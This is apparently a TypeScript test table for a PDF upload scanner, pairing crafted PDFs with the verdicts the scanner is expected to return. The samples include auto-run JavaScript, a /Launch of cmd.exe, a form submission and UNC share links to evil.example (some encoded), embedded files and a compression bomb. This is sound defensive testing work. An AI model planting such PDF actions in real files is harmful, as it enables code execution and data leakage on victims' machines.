import { maxFileBytes } from '../../../platform/files/upload/read-upload.server';
import { pdfFile, pdfWithPacked } from '../../kit/document-files';
import { eicar, half, type, unfit, withTail, type Row } from './row';

const sized = (bytes: number): Buffer => {
  const end = '\nstartxref\n0\n%%EOF';
  return withTail(
    withTail(pdfFile(), Buffer.alloc(bytes - pdfFile().length - end.length, 32)),
    end,
  );
};

export const pdfs: Row[] = [
  [
    'a PDF with a script',
    'a.pdf',
    () => pdfFile('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
    type,
    'taken: pdf-javascript',
  ],
  [
    'a PDF with a script in numbers',
    'a.pdf',
    () => pdfFile('/AA << /S /J#61vaScr#69pt >>'),
    type,
    'taken: pdf-javascript',
  ],
  [
    'a PDF that starts a program',
    'a.pdf',
    () => pdfFile('/OpenAction << /S /Launch /F (cmd.exe) >>'),
    type,
    'taken: pdf-launch',
  ],
  [
    'a PDF with a file in it',
    'a.pdf',
    () => pdfFile('/Names << /EmbeddedFiles 2 0 R >>'),
    type,
    'taken: pdf-embedded-file',
  ],
  [
    'a PDF that opens another file',
    'a.pdf',
    () => pdfFile('/OpenAction << /S /GoToR /F (other.pdf) >>'),
    type,
    'taken: pdf-other-file',
  ],
  [
    'a PDF that opens a file within a file',
    'a.pdf',
    () => pdfFile('/OpenAction << /S /GoToE >>'),
    type,
    'taken: pdf-other-file',
  ],
  [
    'a PDF that sends a form',
    'a.pdf',
    () => pdfFile('/AA << /S /SubmitForm /F (http://evil.example) >>'),
    type,
    'taken: pdf-form-action',
  ],
  [
    'a PDF with a link to a share',
    'a.pdf',
    () => pdfFile('/A << /S /URI /URI (\\\\\\\\evil.example\\\\x) >>'),
    type,
    'taken: pdf-network-path',
  ],
  [
    'a PDF with a link to a share in octal',
    'a.pdf',
    () => pdfFile('/A << /S /URI /URI (\\134\\134evil.example) >>'),
    type,
    'taken: pdf-network-path',
  ],
  [
    'a PDF with a link to a share in digits',
    'a.pdf',
    () => pdfFile('/A << /S /URI /URI <5c5c6576696c> >>'),
    type,
    'taken: pdf-network-path',
  ],
  [
    'a PDF with a link to a page',
    'a.pdf',
    () => pdfFile('/A << /S /URI /URI (https://x.example) >>'),
    type,
    'taken',
  ],
  ['an encrypted PDF', 'a.pdf', () => pdfFile('/Encrypt 3 0 R'), type, 'taken: pdf-encrypted'],
  [
    'a PDF with a script in a packed stream',
    'a.pdf',
    () => pdfWithPacked('<< /JS (x) >>'),
    type,
    'taken: pdf-javascript',
  ],
  [
    'a PDF with a packed bomb',
    'a.pdf',
    () => pdfWithPacked('x'.repeat(9_000_000)),
    type,
    'taken: pdf-unread-parts',
  ],
  [
    'a PDF packed in an unknown way',
    'a.pdf',
    () => pdfWithPacked('x', '/Filter /LZWDecode'),
    type,
    'taken: pdf-unread-parts',
  ],
  ['a PDF with EICAR in it', 'a.pdf', () => pdfFile(`/X (${eicar})`), type, 'taken'],
  ['half a PDF', 'a.pdf', () => half(pdfFile()), type, 'taken: pdf-cut-off'],
  ['a PDF of its first line', 'a.pdf', () => Buffer.from('%PDF-1.7\n'), type, 'taken: pdf-cut-off'],
  [
    'a PDF without a table of its objects',
    'a.pdf',
    () => Buffer.from('%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF'),
    type,
    'taken',
  ],
  ['nothing at all', 'a.pdf', () => Buffer.alloc(0), unfit, unfit],
  ['a PDF of 10 MiB', 'a.pdf', () => sized(maxFileBytes), type, 'taken'],
  [
    'a PDF of 10 MiB and a byte',
    'a.pdf',
    () => sized(maxFileBytes + 1),
    'file_too_large',
    'file_too_large',
  ],
];
